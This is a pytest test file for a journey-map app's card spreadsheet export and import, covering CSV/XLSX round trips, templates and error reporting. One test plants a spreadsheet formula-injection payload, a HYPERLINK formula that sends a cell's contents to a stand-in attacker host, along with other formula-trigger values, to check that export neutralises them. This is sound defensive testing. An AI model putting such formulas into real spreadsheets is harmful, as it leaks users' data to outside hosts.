"""The card spreadsheet (journeymap_desktop/interchange/cards_table.py, docs/card-spreadsheet.md):
one row per card in CSV or XLSX, read back without loss of what the layout holds, formula cells
neutralised, the template in resources/ importable."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pytest

from journeymap_desktop.interchange.cards_table import (
    export_cards_csv,
    export_cards_xlsx,
    read_cards_table,
)
from journeymap_desktop.model.curves import curve_name
from journeymap_desktop.model.map import JourneyMap
from journeymap_desktop.model.queries import journey_order
from journeymap_desktop.resources import resources_dir
from journeymap_desktop.storage import LoadError, load_map

EXAMPLES = ("grocery-delivery", "b2b-onboarding", "bike-service-blueprint")
WRITERS = {"csv": export_cards_csv, "xlsx": export_cards_xlsx}


def _example(name: str) -> JourneyMap:
    return load_map(resources_dir() / "examples" / f"{name}.journeymap")


def _held(journey: JourneyMap) -> list[tuple[object, ...]]:
    """What the layout holds of each card, in journey order, by names rather than ids."""
    stages = {s.id: s.name for s in journey.stages}
    lanes = {lane.id: (lane.name, lane.kind) for lane in journey.lanes}
    personas = {p.id: p.name for p in journey.personas}
    curves = {c.id: curve_name(journey, c).replace(c.name, "") if c.name else
              curve_name(journey, c) for c in journey.curves}
    return [(card.id, stages[card.stage_id], lanes[card.lane_id], card.kind, card.title,
             card.body, personas.get(card.persona_id or ""), card.channel, card.owner,
             card.tags, card.votes, card.moment_of_truth,
             card.priority if card.priority and not card.priority.is_empty() else None,
             card.colour,
             sorted((curves[curve_id], value.value, value.word)
                    for curve_id, value in card.emotions.items()))
            for card in journey_order(journey)]


def _rows(path: Path) -> list[list[object]]:
    if path.suffix == ".csv":
        return [list(row) for row in csv.reader(path.read_text(encoding="utf-8-sig")
                                                .splitlines())]
    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None
    return [list(row) for row in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
@pytest.mark.parametrize("name", EXAMPLES)
def test_an_example_round_trips_without_loss(name: str, suffix: str, tmp_path: Path) -> None:
    original = _example(name)
    first = tmp_path / f"cards.{suffix}"
    written = WRITERS[suffix](original, first)
    assert f"{len(original.cards)} cards" in written.summary()
    result = read_cards_table(first)
    assert result.warnings == ()
    back = result.map
    assert _held(back) == _held(original)
    assert [s.name for s in back.stages] == [s.name for s in original.stages]
    assert [(lane.name, lane.kind) for lane in back.lanes] == \
        [(lane.name, lane.kind) for lane in original.lanes]
    assert back.scale.min == original.scale.min and back.scale.max == original.scale.max
    second = tmp_path / f"again.{suffix}"
    WRITERS[suffix](back, second)
    assert _rows(second) == _rows(first)


def test_the_header_names_the_curves_and_the_scale(tmp_path: Path) -> None:
    path = tmp_path / "cards.csv"
    export_cards_csv(_example("grocery-delivery"), path)
    header = _rows(path)[0]
    assert header[:6] == ["id", "stage", "lane", "lane kind", "kind", "title"]
    assert "feeling: Everyone (as-is) [-2..2]" in header
    assert "feeling: Maya (as-is) [-2..2]" in header
    assert "feeling: Everyone (to-be) [-2..2]" in header


def test_formula_cells_are_neutralised_and_restored(tmp_path: Path) -> None:
    journey = _example("grocery-delivery")
    index = journey.cards.index(journey_order(journey)[0])
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    journey.cards[index] = journey.cards[index].model_copy(update={
        "title": hostile, "body": "@SUM(1+1)", "owner": "-2+3", "tags": ["+cmd"]})
    for suffix, write in WRITERS.items():
        path = tmp_path / f"cards.{suffix}"
        write(journey, path)
        rows = _rows(path)
        row = next(r for r in rows if r[0] == journey.cards[index].id)
        assert row[5] == "'" + hostile and row[6] == "'@SUM(1+1)" and row[9] == "'-2+3"
        assert row[10] == "'+cmd"
        if suffix == "xlsx":
            cells = openpyxl.load_workbook(path).active
            assert cells is not None
            assert all(cell.data_type != "f" for line in cells.iter_rows() for cell in line)
        back = read_cards_table(path).map
        card = next(c for c in back.cards if c.id == journey.cards[index].id)
        assert (card.title, card.body, card.owner, card.tags) == (hostile, "@SUM(1+1)", "-2+3",
                                                                  ["+cmd"])
    # plain numbers stay numbers
    assert "-2" in _rows(tmp_path / "cards.csv")[-1] or any(
        "-2" in row for row in _rows(tmp_path / "cards.csv"))


def test_awkward_text_survives_both_formats(tmp_path: Path) -> None:
    journey = _example("bike-service-blueprint")
    card = journey_order(journey)[0]
    index = journey.cards.index(card)
    journey.cards[index] = card.model_copy(update={
        "title": "Ctrl\x0bchar _x0041_ & <b>bold</b> עברית",
        "body": "line one\nline two\r\nthree, \"quoted\"; ", "tags": ["a;b", "c"]})
    for suffix, write in WRITERS.items():
        path = tmp_path / f"cards.{suffix}"
        write(journey, path)
        back = next(c for c in read_cards_table(path).map.cards if c.id == card.id)
        assert back.title == journey.cards[index].title
        assert back.body == journey.cards[index].body.replace("\r\n", "\n") or \
            back.body == journey.cards[index].body
        assert back.tags == ["a;b", "c"]


def test_the_template_imports(tmp_path: Path) -> None:
    template = resources_dir() / "templates" / "cards-template.csv"
    result = read_cards_table(template)
    journey = result.map
    assert result.warnings == ()
    assert [s.name for s in journey.stages] == ["Discover", "Sign up", "Use", "Renew"]
    assert [lane.kind for lane in journey.lanes] == ["customer_actions", "touchpoints",
                                                     "emotions", "pain_points", "opportunities"]
    assert journey.scale.preset == "1..5"
    assert len(journey.cards) == 7
    pain = next(c for c in journey.cards if c.kind == "pain_point")
    assert pain.priority is not None and pain.priority.customer_value == 80


def test_rows_that_do_not_fit_are_named_and_the_rest_imported(tmp_path: Path) -> None:
    path = tmp_path / "cards.csv"
    path.write_text(
        "stage,lane,kind,title,votes,feeling: Everyone (as-is) [1..5],colour,Surprise\n"
        "Discover,Touchpoints,Touchpoint,Ad,2,4,#123456,x\n"
        "Discover,Touchpoints,Gizmo,Odd kind,lots,9,red,y\n"
        ",Touchpoints,Touchpoint,No stage,,,,\n"
        "Buy,Pain points,,Slow checkout,1,2,,\n", encoding="utf-8")
    result = read_cards_table(path)
    journey = result.map
    assert [c.title for c in journey.cards] == ["Ad", "Odd kind", "Slow checkout"]
    warnings = "\n".join(result.warnings)
    assert "row 1: columns left out" in warnings and "Surprise" in warnings
    assert "row 3: kind “Gizmo” is unknown" in warnings
    assert "row 3: votes “lots”" in warnings
    assert "row 3: feeling 9 is outside" in warnings
    assert "row 3: colour" in warnings
    assert "row 4: no stage" in warnings
    slow = journey.cards[-1]
    assert slow.kind == "pain_point"  # the lane's usual kind


@pytest.mark.parametrize(("content", "reason"), [
    (b"stage,title\n" + b"A,x\n" * 3 + b"\x00\x01\x02binary" * 10, None),
    (b"PK\x03\x04 not really a workbook", "XLSX"),
])
def test_bad_files_give_one_line(tmp_path: Path, content: bytes, reason: str | None) -> None:
    path = tmp_path / "bad.xlsx"
    path.write_bytes(content)
    if reason is None:  # binary bytes after the rows: refused as a whole, in one line
        with pytest.raises(LoadError) as refused:
            read_cards_table(path)
    else:
        with pytest.raises(LoadError, match=reason) as refused:
            read_cards_table(path)
    assert "\n" not in str(refused.value)
